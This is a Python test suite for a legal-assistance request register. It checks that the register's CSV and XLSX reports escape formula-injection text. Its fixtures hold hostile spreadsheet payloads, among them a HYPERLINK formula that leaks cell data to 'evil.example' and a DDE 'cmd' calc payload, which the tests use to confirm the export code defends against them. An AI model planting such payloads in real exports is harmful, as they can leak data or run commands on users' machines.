"""Report files (CSV and XLSX) never hold a formula: text from the register or from reference
data a supervisor edits (references, ground codes and labels) is written as text."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from rogatory.publication.documents import fatf_document, report_document
from rogatory.reference.models import RefusalGround
from rogatory.register import services
from rogatory.register.models import Kind, Outcome
from tests.register.factories import make_request

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
GROUND_CODE = "@SUM(1+1)*cmd"
GROUND_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
REFERENCES = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "#REF!"]
YEAR = {"period_from": date(2023, 1, 1), "period_to": date(2023, 12, 31)}


@pytest.fixture
def hostile_register():
    RefusalGround.objects.create(
        code=GROUND_CODE, label_en=GROUND_LABEL, label_ru=GROUND_LABEL, counts_as_political=True
    )
    for reference in REFERENCES:
        make_request(
            reference=reference,
            outcome=Outcome.REFUSED,
            decided_on=date(2023, 6, 1),
            grounds=(GROUND_CODE,),
        )
    request = make_request(reference="=EXTRADITION()", kind=Kind.EXTRADITION, persons_count=2)
    services.request_update(actor=None, request=request, offence_description="=1+1")


def _document(format: str):
    return report_document(format=format, direction="outgoing", language="en", **YEAR)


def test_report_csv_escapes_a_ground_code_that_starts_like_a_formula(hostile_register):
    content = _document("csv").content

    rows = list(csv.DictReader(io.StringIO(content)))
    keys = {row["key"] for row in rows if row["figure"] == "refused_by_ground"}
    assert keys == {f"'{GROUND_CODE}"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(TRIGGERS), row
    counts = [row["value"] for row in rows if row["figure"] == "refused"]
    assert counts == ["5", "0"]


def _formula_cells(workbook) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type in ("f", "e")
    ]


def _texts(workbook) -> set[str]:
    return {
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def test_report_xlsx_holds_no_formula_and_shows_the_text_as_typed(hostile_register):
    workbook = load_workbook(io.BytesIO(_document("xlsx").content))

    assert _formula_cells(workbook) == []
    texts = _texts(workbook)
    assert {*REFERENCES, "=EXTRADITION()", GROUND_LABEL} <= texts


def test_fatf_xlsx_holds_no_formula(hostile_register):
    document = fatf_document(format="xlsx", year=2023, language="en")

    workbook = load_workbook(io.BytesIO(document.content))

    assert _formula_cells(workbook) == []
